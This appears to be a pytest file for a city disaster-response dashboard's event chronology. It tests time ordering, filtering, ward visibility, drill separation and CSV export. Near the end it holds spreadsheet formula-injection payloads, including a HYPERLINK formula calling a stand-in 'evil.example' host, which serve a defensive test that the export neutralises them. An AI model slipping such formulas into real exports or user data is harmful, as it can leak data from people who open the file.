"""Chronology: one time-ordered log, filterable by time, kind and ward, exportable for Excel."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from dashboard.services import chronology, delivery, directives, disaster, modes
from dashboard.storage.db import transaction
from dashboard.storage.models import DamageReport, ShelterStatus, User, utcnow
from tests.factories import CHUO, CITY, KITA, KITA_POINT


@pytest.fixture(autouse=True)
def _no_stray_workers():
    """Delivery workers left running by app tests in this process would deliver and escalate
    this test's data on the shared PostgreSQL database behind its back."""
    delivery.stop_all_workers()


@pytest.fixture
def story(city):
    """Twenty minutes of a night at the HQ, one event a minute from t0."""
    engine, t0 = city.engine, utcnow() - timedelta(hours=1)

    def at(minutes: int):
        return t0 + timedelta(minutes=minutes)

    declaration = disaster.declare_disaster(
        engine, city.mayor, submission_id="d", level=3, scope_code=CITY, now=at(0)
    )
    with transaction(engine) as s:
        s.add(DamageReport(
            submission_id="r1", lat=KITA_POINT[0], lon=KITA_POINT[1], ward_code=KITA,
            reporter_ward_code=KITA, category="fire", severity=3, description="住宅火災",
            reported_by_id=city.kita_staff.user_id, reported_at=at(2),
        ))  # fmt: skip
        for minute, state, evacuees in ((3, "open", 40), (4, "open", 90), (5, "full", 200)):
            s.add(ShelterStatus(
                submission_id=f"s{minute}", shelter_id=city.shelters["kita1"], state=state,
                evacuees=evacuees, reported_by_id=city.kita_staff.user_id, reported_at=at(minute),
            ))  # fmt: skip
    directive = directives.send_directive(
        engine, city.mayor, submission_id="x", ward_codes=[KITA, CHUO],
        template="open_shelters", now=at(6),
    )  # fmt: skip
    kita = directives.list_inbox(engine, city.kita_head)[0].delivery_id
    directives.mark_read(engine, city.kita_staff, kita, now=at(7))
    directives.acknowledge(engine, city.kita_head, kita, now=at(8))
    directives.answer(engine, city.kita_head, kita, status="in_progress", text="開設中", now=at(9))
    directives.answer(engine, city.kita_head, kita, status="done", now=at(10))
    disaster.end_disaster(engine, city.mayor, declaration_id=declaration, now=at(20))
    return city, at, directive


def test_everything_appears_once_in_time_order(story):
    city, at, _ = story
    events = chronology.list_events(city.engine, city.mayor)
    summary = [(e.at, e.kind, e.place) for e in events]
    assert summary == [
        (at(0), "declaration", "大阪市"),
        (at(0), "directive", "24区域"),  # the declaration's roll call of every ward
        (at(2), "damage_report", "北区"),
        (at(3), "shelter_status", "北区"),  # opened
        (at(5), "shelter_status", "北区"),  # full; the count-only update at 4 is left out
        (at(6), "directive", "北区・中央区"),
        (at(7), "read", "北区"),
        (at(8), "acknowledgement", "北区"),
        (at(9), "answer", "北区"),
        (at(10), "answer", "北区"),
        (at(20), "declaration", "大阪市"),
    ]
    texts = [e.text for e in events]
    assert texts[0] == "第2非常配備を宣言" and texts[-1] == "第2非常配備を終了"
    assert texts[2] == "火災（深刻度3）34.70267, 135.50003 — 住宅火災"
    assert texts[4] == "北第1小学校：満員（避難者 200人）"
    assert texts[8] == "回答（対応中）：避難所を開設してください — 開設中"
    assert events[7].who == "kita_head" and events[2].who == "kita_staff"


def test_filters_by_time_kind_and_ward(story):
    city, at, _ = story
    window = chronology.list_events(city.engine, city.mayor, since=at(3), until=at(8))
    assert [e.kind for e in window] == [
        "shelter_status", "shelter_status", "directive", "read", "acknowledgement",
    ]  # fmt: skip
    answers = chronology.list_events(city.engine, city.mayor, kinds=["answer", "nonsense"])
    assert [e.at for e in answers] == [at(9), at(10)]
    chuo = chronology.list_events(city.engine, city.mayor, ward_code=CHUO)
    # 中央区 was in disaster mode and got two directives, and did nothing else.
    assert [e.kind for e in chuo] == ["declaration", "directive", "directive", "declaration"]


def test_a_ward_sees_only_what_concerns_it(story):
    city, _, _ = story
    kinds = [e.kind for e in chronology.list_events(city.engine, city.chuo_staff)]
    assert kinds == ["declaration", "directive", "directive", "declaration"]
    assert len(chronology.list_events(city.engine, city.kita_staff)) == 11


def test_drill_events_are_not_in_the_real_chronology(story):
    city, _, _ = story
    modes.start_drill(city.engine, city.admin, name="訓練")
    assert chronology.list_events(city.engine, city.mayor) == []
    directives.send_directive(
        city.engine, city.mayor, submission_id="drill", ward_codes=[KITA], template="mobilise_staff"
    )
    assert [e.kind for e in chronology.list_events(city.engine, city.mayor)] == ["directive"]
    modes.end_drill(city.engine, city.admin)
    assert len(chronology.list_events(city.engine, city.mayor)) == 11


def test_csv_export_opens_in_excel(story):
    city, _, _ = story
    events = chronology.list_events(city.engine, city.mayor, kinds=["answer"])
    data = chronology.events_csv(events, lang="ja")
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["日時", "種別", "区域", "担当者", "内容"]
    assert [r[1:4] for r in rows[1:]] == [["回答", "北区", "kita_head"]] * 2
    local = events[0].at.astimezone(ZoneInfo("Asia/Tokyo"))
    assert rows[1][0] == local.strftime("%Y-%m-%d %H:%M:%S")
    english = chronology.list_events(city.engine, city.mayor, kinds=["answer"], lang="en")
    rows = list(
        csv.reader(io.StringIO(chronology.events_csv(english, lang="en").decode("utf-8-sig")))
    )
    assert rows[0][0] == "Time" and rows[2][4] == "Answer (Done): 避難所を開設してください"


FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click")', "=1+1", "@SUM(1)", "+1", "-2+3"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_export_never_writes_a_formula(story):
    """A display name typed as a formula reaches the CSV as text (issue 10 #6)."""
    city, _, _ = story
    with transaction(city.engine) as s:
        s.scalars(select(User).where(User.username == "kita_head")).one().display_name = FORMULAS[0]
    events = chronology.list_events(city.engine, city.mayor, kinds=["answer"])
    rows = _cells(chronology.events_csv(events))
    assert [r[3] for r in rows[1:]] == ["'" + FORMULAS[0]] * 2


@pytest.mark.parametrize("payload", [*FORMULAS, "\t=1+1", "\r=1+1", "＝1+1"])
def test_every_cell_starting_like_a_formula_is_neutralised(payload):
    event = chronology.ChronologyEvent(utcnow(), "answer", frozenset(), payload, payload, payload)
    row = _cells(chronology.events_csv([event]))[1]
    assert row[2:] == ["'" + payload] * 3
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
